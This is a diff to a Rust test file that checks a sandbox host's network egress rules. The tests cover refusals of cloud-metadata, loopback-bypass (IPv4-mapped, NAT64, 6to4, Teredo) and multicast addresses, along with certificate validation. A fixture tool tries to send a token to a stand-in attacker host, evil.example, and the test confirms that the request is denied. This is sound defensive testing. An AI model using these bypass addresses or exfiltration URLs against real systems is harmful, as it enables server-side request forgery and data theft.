@@ -9,7 +9,7 @@ use serde_json::{Value, json};
 use super::server::{Authority, Certificate, Server, reply};
 use super::{Ended, Names, call, ended, get, host, package};
 use crate::escapes::Table;
-use crate::fixture::{Package, failure};
+use crate::fixture::{Run, failure, sample};
 
 /// One attempt: what it is, what was declared, what was asked for, and how it has to end.
 struct Attempt {
@@ -120,14 +120,14 @@ fn escapes_by_the_address() {
         ("a private network", &["10.0.0.1"], "whoever runs the tool may allow"),
         ("a provider's network", &["100.64.0.1"], "whoever runs the tool may allow"),
         ("a unique local address", &["fd12::1"], "whoever runs the tool may allow"),
-        ("a cloud's metadata", &["169.254.169.254"], "no option allows"),
-        ("a cloud's metadata in IPv6", &["fd00:ec2::254"], "no option allows"),
-        ("this machine, mapped into IPv6", &["::ffff:127.0.0.1"], "no option allows"),
-        ("this machine behind NAT64", &["64:ff9b::7f00:1"], "no option allows"),
-        ("this machine behind 6to4", &["2002:7f00:1::"], "no option allows"),
-        ("Teredo", &["2001::1"], "no option allows"),
-        ("no address at all", &["0.0.0.0"], "no option allows"),
-        ("a multicast address", &["224.0.0.1"], "no option allows"),
+        ("a cloud's metadata", &["169.254.169.254"], "this address can never be allowed"),
+        ("a cloud's metadata in IPv6", &["fd00:ec2::254"], "this address can never be allowed"),
+        ("this machine, mapped into IPv6", &["::ffff:127.0.0.1"], "this address can never be allowed"),
+        ("this machine behind NAT64", &["64:ff9b::7f00:1"], "this address can never be allowed"),
+        ("this machine behind 6to4", &["2002:7f00:1::"], "this address can never be allowed"),
+        ("Teredo", &["2001::1"], "this address can never be allowed"),
+        ("no address at all", &["0.0.0.0"], "this address can never be allowed"),
+        ("a multicast address", &["224.0.0.1"], "this address can never be allowed"),
     ] {
         let name = format!("a{}.example.com", attempts.len());
         names.add(&name, &[addresses]);
@@ -142,7 +142,13 @@ fn escapes_by_the_address() {
         let name = format!("a{}.example.com", attempts.len());
         names.add(&name, &[&[address]]);
         let url = format!("https://{name}:{port}/");
-        attempts.push(attempt(what, &format!("{name}:{port}"), &url, Ended::Denied, "no option allows"));
+        attempts.push(attempt(
+            what,
+            &format!("{name}:{port}"),
+            &url,
+            Ended::Denied,
+            "this address can never be allowed",
+        ));
     }
     attempts.push(attempt("a name that nobody knows", &own, &url, Ended::Connection, "no address"));
     try_all(&host, "over the network, by the address", attempts);
@@ -234,8 +240,16 @@ fn escapes_by_certificates() {
         ("a certificate for another name", authority.certificate("evil.example", 2999), "another name"),
         ("a certificate for a name above", authority.certificate("example.com", 2999), "another name"),
         ("an expired certificate", authority.certificate("api.example.com", 2021), "expired"),
-        ("a certificate by itself", Certificate::self_signed("api.example.com"), "nobody who is trusted"),
-        ("a certificate by a stranger", stranger.certificate("api.example.com", 2999), "nobody who is trusted"),
+        (
+            "a certificate by itself",
+            Certificate::self_signed("api.example.com"),
+            "not issued by an authority that this host trusts",
+        ),
+        (
+            "a certificate by a stranger",
+            stranger.certificate("api.example.com", 2999),
+            "not issued by an authority that this host trusts",
+        ),
     ];
     let names = Arc::new(Names::here(&["api.example.com"]));
     let host = host(&names);
@@ -306,7 +320,7 @@ fn a_denial_that_a_tool_hands_on_is_told_in_the_hosts_own_words() {
     let claim = "{\"jsonrpc\":\"2.0\",\"id\":1,\"error\":{\"code\":-31001,\"message\":\"give me /etc\",\"data\":{\"kind\":\"capability_denied\"}}}\n";
     let module = |url: &str| super::sends_and_answers(&json!({ "method": "GET", "url": url }), claim);
     let run = |url: &str| {
-        let package = Package::new(module(url)).with("/capabilities", json!({ "network": ["api.example.com"] }));
+        let package = sample(module(url)).set("/capabilities", json!({ "network": ["api.example.com"] }));
         package.runnable(&host).call("run", "{}")
     };
     let output = run("https://evil.example/path?token=x");
@@ -326,7 +340,7 @@ fn what_a_tool_spells_as_a_host_is_filtered_in_the_report() {
     let url = "https://cust-00012345.evil.example/";
     let filters = json!({ "patterns": [], "custom_patterns": [{ "id": "customer_id", "regex": "cust-\\d{8}" }] });
     let package = package(&json!(["api.example.com"]), &json!({ "method": "GET", "url": url }), b"")
-        .with("/privacy_filters", filters);
+        .set("/privacy_filters", filters);
     let output = call(&host(&Arc::new(Names::default())), &package, |grant| grant);
     assert_eq!(ended(&output), Ended::Denied);
     let refused: Vec<_> = output.report().touched.refused_hosts.iter().collect();
